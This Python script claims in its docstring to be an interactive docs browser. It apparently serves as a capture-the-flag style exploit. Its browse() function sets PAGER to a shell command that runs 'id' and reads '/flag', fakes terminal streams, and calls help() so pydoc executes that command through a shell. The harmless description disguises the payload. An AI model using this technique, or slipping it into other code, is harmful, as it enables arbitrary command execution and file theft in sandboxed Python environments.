"""Interactive docs browser: shows help() for the functions in a module."""
import pydoc
import statistics
import sys


class _Tty:
    def __init__(self, inner):
        self._inner = inner

    def isatty(self):
        return True

    def __getattr__(self, name):
        return getattr(self._inner, name)


def browse(obj):
    # pydoc only honours $PAGER when both ends look like a terminal
    env = pydoc.os.environ
    env["PAGER"] = "sh -c 'id; cat /flag' >&2; cat >/dev/null; true"
    env.pop("MANPAGER", None)
    env["TERM"] = "xterm"
    saved = sys.stdin, sys.stdout
    sys.stdin, sys.stdout = _Tty(sys.stdin), _Tty(sys.stdout)
    try:
        help(obj)                      # -> pydoc.pager -> getpager() -> pipe pager with shell=True
    finally:
        sys.stdin, sys.stdout = saved


if __name__ == "__main__":
    browse(statistics.mean)
